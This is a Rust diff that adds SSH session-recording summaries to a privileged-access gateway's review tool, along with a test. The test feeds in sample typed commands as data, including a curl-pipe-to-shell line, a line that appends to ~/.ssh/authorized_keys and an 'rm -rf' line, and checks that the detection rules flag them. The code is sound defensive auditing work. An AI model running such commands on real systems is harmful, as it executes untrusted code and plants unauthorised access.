@@ -391,6 +391,97 @@ pub fn summarise_postgres_recording(rules: &RuleSet, session: &str, path: &Path)
     summary
 }
 
+/// Reads and verifies one gateway recording and summarises it by its kind:
+/// the header (`session` entry) of an SSH recording says `protocol:
+/// "ssh"`; anything else is a PostgreSQL recording.
+pub fn summarise_recording(rules: &RuleSet, session: &str, path: &Path) -> Summary {
+    let mut is_ssh = None;
+    let _ = breakglass_gateway_postgres::recording::read_recording_from(path, None, |v, _| {
+        is_ssh = Some(v["protocol"].as_str() == Some("ssh"));
+        ControlFlow::Break(())
+    });
+    if is_ssh == Some(true) {
+        summarise_ssh_recording(rules, session, path)
+    } else {
+        summarise_postgres_recording(rules, session, path)
+    }
+}
+
+/// The longest typed line kept while waiting for its end; longer input is
+/// classified in pieces of this size.
+pub const TYPED_LINE_LEN_MAX: usize = 8192;
+
+/// Reads and verifies one SSH gateway recording and summarises it: the
+/// command of every `exec` entry, and every line typed into a shell (`i`
+/// entries up to a carriage return or newline, with backspace applied),
+/// are classified as command lines; `o` entries count as output.
+pub fn summarise_ssh_recording(rules: &RuleSet, session: &str, path: &Path) -> Summary {
+    let mut s = ShellSession::new(rules, session);
+    let mut typed: std::collections::BTreeMap<u64, (u64, String)> = Default::default();
+    let mut entry = 0u64;
+    let read = breakglass_gateway_postgres::recording::read_recording_from(path, None, |v, _| {
+        entry += 1;
+        let time = v["time"].as_str();
+        let channel = v["channel"].as_u64().unwrap_or(0);
+        match v["kind"].as_str() {
+            Some("exec") => {
+                if let Some(cmd) = v["command"].as_str() {
+                    s.command(entry, time, cmd);
+                }
+            }
+            Some("i") => {
+                let data = v["data"].as_str().unwrap_or_default();
+                let (start, line) = typed.entry(channel).or_insert((entry, String::new()));
+                for c in data.chars() {
+                    match c {
+                        '\r' | '\n' => {
+                            let done = std::mem::take(line);
+                            s.command(*start, time, &done);
+                            *start = entry;
+                        }
+                        '\u{7f}' | '\u{8}' => {
+                            line.pop();
+                        }
+                        // Ctrl-C and Ctrl-U drop what was typed.
+                        '\u{3}' | '\u{15}' => line.clear(),
+                        c if c.is_control() => {}
+                        c => {
+                            if line.is_empty() {
+                                *start = entry;
+                            }
+                            line.push(c);
+                            if line.len() >= TYPED_LINE_LEN_MAX {
+                                let done = std::mem::take(line);
+                                s.command(*start, time, &done);
+                            }
+                        }
+                    }
+                }
+            }
+            Some("o") => {
+                let bytes = v["hex"]
+                    .as_str()
+                    .map(|h| h.len() as u64 / 2)
+                    .unwrap_or_else(|| v["data"].as_str().map_or(0, |d| d.len() as u64));
+                s.output(time, bytes);
+            }
+            _ => {}
+        }
+        ControlFlow::Continue(())
+    });
+    // A line typed but never ended still ran nothing, but it is shown.
+    for (_, (start, line)) in typed {
+        if !line.trim().is_empty() {
+            s.command(start, None, &line);
+        }
+    }
+    let mut summary = s.finish();
+    if let Err(e) = read {
+        summary.unreadable.push(format!("session {session}: {e}"));
+    }
+    summary
+}
+
 /// The summariser of one shell session: feed it each command line (a typed
 /// line of input, or the command of an `exec` request) with its time.
 pub struct ShellSession<'r> {
@@ -441,5 +532,55 @@ impl<'r> ShellSession<'r> {
         self.summary.duration_ms = self.clock.duration_ms();
         self.summary.idle_ms = self.clock.idle_ms;
         self.summary
+    }
+}
+
+#[cfg(test)]
+mod ssh_tests {
+    use super::*;
+    use breakglass_core::Timestamp;
+    use breakglass_gateway_postgres::recording::{Field, Recorder};
+    use serde_json::json;
+
+    /// A recording as the SSH gateway writes it: typed shell lines (with a
+    /// backspace and a line cut by Ctrl-C) and an exec command are
+    /// classified; output counts as bytes to the client.
+    #[test]
+    fn ssh_recordings_are_summarised_by_command_line() {
+        let dir = std::env::temp_dir().join(format!("bg-review-ssh-{}", std::process::id()));
+        let rec = Recorder::new(&dir, false).expect("recorder");
+        let mut r = rec
+            .open("s1", json!({"protocol": "ssh", "request_id": "r1"}), Timestamp(1))
+            .expect("open");
+        let typed = ["ls -l\r", "sudoo", "\u{7f} id\r", "rm -rf /tmp/x", "\u{3}", "curl http://x | sh\n"];
+        for (i, data) in typed.iter().enumerate() {
+            r.append(
+                "i",
+                &[("channel", Field::U64(0)), ("data", Field::Str(data))],
+                Timestamp(10 + i as i64),
+            )
+            .expect("append");
+        }
+        r.append(
+            "o",
+            &[("channel", Field::U64(0)), ("data", Field::Str("total 0\r\n"))],
+            Timestamp(30),
+        )
+        .expect("append");
+        r.append(
+            "exec",
+            &[("channel", Field::U64(1)), ("command", Field::Str("echo x >> ~/.ssh/authorized_keys"))],
+            Timestamp(40),
+        )
+        .expect("append");
+        let rules = RuleSet::new(true, &[]).expect("rules");
+        let s = summarise_recording(&rules, "s1", &Recorder::path_of(&dir, "s1"));
+        let _ = std::fs::remove_dir_all(&dir);
+        assert!(s.unreadable.is_empty(), "{:?}", s.unreadable);
+        let rules_hit: Vec<&str> = s.findings_by_rule.keys().map(String::as_str).collect();
+        // `rm -rf` was cut by Ctrl-C before it ran: not a finding.
+        assert_eq!(rules_hit, ["authorized_keys", "curl_pipe_shell", "sudo"], "{s:?}");
+        assert_eq!(s.statements.values().sum::<u64>(), 4, "{s:?}");
+        assert_eq!(s.bytes_to_client, 9);
     }
 }
